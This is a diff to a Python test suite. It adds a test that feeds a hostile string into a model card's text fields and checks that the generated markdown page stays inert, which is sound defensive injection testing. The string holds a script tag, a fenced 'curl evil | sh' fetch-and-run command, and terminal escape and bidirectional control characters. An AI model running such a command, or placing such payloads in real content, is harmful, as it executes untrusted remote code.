@@ -5,10 +5,12 @@ from __future__ import annotations
 import hashlib
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
 
+from contract import Image
 from tests.serving import tiny_onnx
 from training.__main__ import main
 
@@ -63,6 +65,27 @@ def test_the_card_is_plain_json(model: Path) -> None:
     assert card["sha256"] == hashlib.sha256(model.read_bytes()).hexdigest()
     assert card["latents"]["y"] == {"kind": "categorical", "classes": 10}
     assert "goldens" not in card
+
+
+HOSTILE = "x</a><script>\n```sh\ncurl evil | sh\n```\n# Title\x1b[31m\u202e"
+
+
+def test_a_strangers_texts_stay_texts(tmp_path: Path) -> None:
+    """No line of the page, and no code block of it, comes from the texts of a card."""
+    texts = dict.fromkeys(("paper", "data", "data_licence", "recipe"), HOSTILE)
+    names = tuple(f"{HOSTILE}{value}" for value in range(10))
+    further: dict[str, Any] = {**texts, "classes": names, "versions": {HOSTILE: HOSTILE}, "scores": {HOSTILE: 1.0}}
+    hostile = tiny_onnx.build("conditional", tiny_onnx.CONDITIONAL, Image(28, 28, 1), **further)
+    pages = []
+    for name, content in (("honest", tiny_onnx.conditional(versions={"a": "b"}, scores={"a": 1.0})), ("hostile", hostile)):
+        (tmp_path / f"{name}.onnx").write_bytes(content)
+        assert main(["card", str(tmp_path / f"{name}.onnx"), "--out", str(tmp_path / f"{name}.md")]) == 0
+        pages.append((tmp_path / f"{name}.md").read_text())
+    honest, page = pages
+    assert page.count("\n") == honest.count("\n")
+    assert page.count("```") == honest.count("```")
+    assert "<" not in page.replace("<", "", honest.count("<"))
+    assert "\x1b" not in page
 
 
 @pytest.mark.parametrize(("content", "reason"), [(None, "No such file"), (b"x", "is not an ONNX model"), (b"", "has no card")])
